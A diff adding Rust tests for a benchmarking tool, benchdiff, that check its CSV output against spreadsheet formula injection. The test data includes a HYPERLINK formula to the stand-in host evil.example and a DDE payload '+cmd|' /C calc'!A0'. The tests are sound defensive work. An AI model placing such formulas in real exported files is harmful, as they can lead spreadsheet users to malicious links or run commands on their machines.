@@ -364,3 +364,140 @@ fn a_name_with_a_line_break_is_quoted_in_the_csv_read_back_and_escaped() {
         assert!(!faked(&out), "{args:?}: {out}");
     }
 }
+
+/// `compare … --csv` of command benchmarks writes benchdiff's own CSV: a name a spreadsheet
+/// would run as a formula (OWASP: a text cell starting with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return) gets a leading `'`; a name that is a plain number (`-1.5`) and the
+/// number cells stay as they are.
+#[test]
+fn a_formula_name_is_neutralised_in_the_csv_of_a_command_run() {
+    let d = tempfile::tempdir().expect("tempdir");
+    let formula = r#"=HYPERLINK("http://evil.example/?x","click")"#;
+    for (name, file) in [(formula, "f.csv"), ("-1.5", "n.csv"), ("@x", "at.csv")] {
+        let run = Command::cargo_bin("benchdiff")
+            .expect("binary built")
+            .current_dir(d.path())
+            .env("NO_COLOR", "1")
+            .args([
+                "compare",
+                "--old",
+                "/bin/true",
+                "--new",
+                "/bin/true",
+                "--bench",
+                "",
+                &format!("--name={name}"),
+                "--runs",
+                "2",
+                "--csv",
+                file,
+            ])
+            .output()
+            .expect("compare runs");
+        assert_eq!(
+            run.status.code(),
+            Some(0),
+            "{}",
+            String::from_utf8_lossy(&run.stderr)
+        );
+    }
+    let read = |f: &str| std::fs::read_to_string(d.path().join(f)).expect("csv");
+    let csv = read("f.csv");
+    let rows: Vec<&str> = csv.lines().skip(1).collect();
+    assert_eq!(rows.len(), 4, "{csv}");
+    for row in &rows {
+        assert!(
+            row.starts_with(r#""old","'=HYPERLINK(""http://evil.example/?x"",""click"")","","#)
+                || row.starts_with(
+                    r#""new","'=HYPERLINK(""http://evil.example/?x"",""click"")","","#
+                ),
+            "{csv}"
+        );
+        // The rate and time are numbers, unquoted.
+        let numbers: Vec<&str> = row.rsplitn(3, ',').take(2).collect();
+        assert!(numbers.iter().all(|n| n.parse::<f64>().is_ok()), "{row}");
+    }
+    assert!(
+        read("n.csv").contains("\n\"old\",\"-1.5\",\"\","),
+        "{}",
+        read("n.csv")
+    );
+    assert!(
+        read("at.csv").contains("\n\"old\",\"'@x\",\"\","),
+        "{}",
+        read("at.csv")
+    );
+}
+
+/// `report --format csv` writes compare.js's CSV for compare.R: names as they are (the
+/// input comes back byte for byte), with one warning on stderr when a name would be a
+/// formula in a spreadsheet, however many there are.
+#[test]
+fn report_format_csv_keeps_a_formula_name_and_warns_once() {
+    let d = tempfile::tempdir().expect("tempdir");
+    let mut csv = String::from("\"binary\",\"filename\",\"configuration\",\"rate\",\"time\"\n");
+    for (side, file, conf, rate) in [
+        (
+            "old",
+            r#"=HYPERLINK(""http://evil.example/?x"",""click"")"#,
+            "n=1",
+            10,
+        ),
+        (
+            "old",
+            r#"=HYPERLINK(""http://evil.example/?x"",""click"")"#,
+            "n=1",
+            11,
+        ),
+        (
+            "new",
+            r#"=HYPERLINK(""http://evil.example/?x"",""click"")"#,
+            "n=1",
+            12,
+        ),
+        (
+            "new",
+            r#"=HYPERLINK(""http://evil.example/?x"",""click"")"#,
+            "n=1",
+            13,
+        ),
+        ("old", "a.js", "+cmd|' /C calc'!A0", 10),
+        ("new", "a.js", "+cmd|' /C calc'!A0", 12),
+        ("old", "b.js", "-1.5", 10),
+        ("new", "b.js", "-1.5", 12),
+    ] {
+        csv.push_str(&format!(
+            "\"{side}\",\"{file}\",\"{conf}\",{rate},0.100000000\n"
+        ));
+    }
+    std::fs::write(d.path().join("in.csv"), &csv).expect("write");
+    let o = benchdiff()
+        .current_dir(d.path())
+        .args(["report", "in.csv", "--format", "csv"])
+        .output()
+        .expect("report runs");
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert_eq!(o.status.code(), Some(0), "{err}");
+    assert_eq!(String::from_utf8_lossy(&o.stdout), csv);
+    assert_eq!(err.matches("warning:").count(), 1, "{err}");
+    assert!(
+        err.contains("--format csv is compare.js's CSV")
+            && err.contains(r#""=HYPERLINK(\"http://evil.example/?x\",\"click\")""#)
+            && err.contains("may run as a formula"),
+        "{err}"
+    );
+    // Names that start as no formula does (a plain number among them): no warning.
+    let plain: String = csv
+        .lines()
+        .filter(|l| !l.contains("HYPERLINK") && !l.contains("cmd|"))
+        .map(|l| format!("{l}\n"))
+        .collect();
+    std::fs::write(d.path().join("plain.csv"), &plain).expect("write");
+    let o = benchdiff()
+        .current_dir(d.path())
+        .args(["report", "plain.csv", "--format", "csv"])
+        .output()
+        .expect("report runs");
+    assert_eq!(String::from_utf8_lossy(&o.stdout), plain);
+    assert!(!String::from_utf8_lossy(&o.stderr).contains("formula"));
+}
